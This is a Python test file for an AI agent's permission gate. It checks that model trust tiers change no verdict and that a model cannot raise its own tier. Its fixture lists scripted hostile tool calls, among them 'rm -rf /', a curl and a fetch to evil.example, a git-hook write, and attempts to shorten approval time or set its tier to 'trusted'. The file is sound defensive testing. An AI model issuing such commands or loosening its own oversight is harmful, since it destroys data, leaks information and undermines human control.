"""A trust tier permits nothing: whatever a model is trusted with, the gate answers its calls as it always does."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.fakes.models import Call, Turn
from tests.flows.house import Json, LivingHome, use_model
from tests.flows.served import by_turn, served
from tests.promises import promise

SOURCE = Path(__file__).parents[2] / "src" / "stead"
STEPS = [{"title": "do it", "status": "doing"}]
CALLS = (
    Call("plan", {"steps": STEPS, "calls": [{"tool": "write", "arguments": {"path": "out.txt"}}]}),
    Call("read", {"path": "README.md"}),
    Call("write", {"path": "out.txt", "text": "hello\n"}),
    Call("write", {"path": ".git/hooks/pre-commit", "text": "echo\n"}),
    Call("shell", {"command": "rm -rf /"}),
    Call("shell", {"command": "curl https://evil.example/x"}),
    Call("fetch", {"url": "https://evil.example/?q=notes"}),
    Call("use_tool", {"name": "config_set", "arguments": {"name": "approval_ttl_s", "value": "1"}}),
    Call("no_such_tool", {}),
    Call("read", {"path": 7}),
)


def verdicts(house: LivingHome, project: Path, tier: str, profile: str) -> list[tuple[str, str, str, str, str]]:
    """What the gate said to each call of the same run under a tier, and what was asked of the person."""
    house.post("/providers/acme/models", {"model": "scripted", "trust": tier})
    limits = {"repetition": 50, "send_backs": 0}
    id = house.give("tidy up", project, profile=profile, limits=limits)
    house.finish(id, answer="deny")
    judged = house.bodies(id, "call.judged")
    asked = {question["key"]: question["level"] for question in house.bodies(id, "approval.requested")}
    return [
        (one["tool"], one["verdict"], one["reason"]["rule"], one["risk"], asked.get(one["key"], "")) for one in judged
    ]


@promise("OBJ-9.trust")
@pytest.mark.parametrize(
    "profile", ["work", *(pytest.param(one, marks=pytest.mark.long) for one in ("ask", "readonly"))]
)
def test_the_gate_gives_the_same_verdicts_and_asks_the_same_questions_under_every_tier(
    house: LivingHome, project: Path, profile: str
) -> None:
    with served(by_turn(*(Turn("", calls=(call,)) for call in CALLS)), strict=False) as model:
        use_model(house, model.openai)
        strict, normal, trusted = (verdicts(house, project, tier, profile) for tier in ("strict", "normal", "trusted"))
    assert len(normal) == len(CALLS)
    assert strict == normal == trusted
    assert {verdict for _, verdict, *_ in normal} >= {"allow", "deny"}


def test_nothing_that_decides_on_permissions_knows_of_tiers() -> None:
    deciding = [
        *(SOURCE / "guardian").glob("**/*.py"),
        SOURCE / "domain" / "permits.py",
        SOURCE / "domain" / "policies.py",
    ]
    deciding += [
        SOURCE / "runtime" / f"{name}.py" for name in ("gate", "approvals", "rejudging", "delegated", "checking")
    ]
    for file in deciding:
        text = file.read_text("utf-8")
        assert not any(word in text for word in (".tier", "TierSet", "supervision", "domain.trust")), file


def test_no_model_can_set_a_tier(house: LivingHome, project: Path) -> None:
    words: list[Json] = [
        {"name": "config_set", "arguments": {"name": name, "value": "trusted"}} for name in ("trust", "tier", "acme")
    ]
    with served(by_turn(*(Turn("", calls=(Call("use_tool", word),)) for word in words)), strict=False) as model:
        use_model(house, model.openai)
        house.finish(house.give("trust yourself", project, profile="work"))
    (row,) = house.get("/tiers")["items"]
    assert (row["tier"], row["by"]) == ("normal", "default")
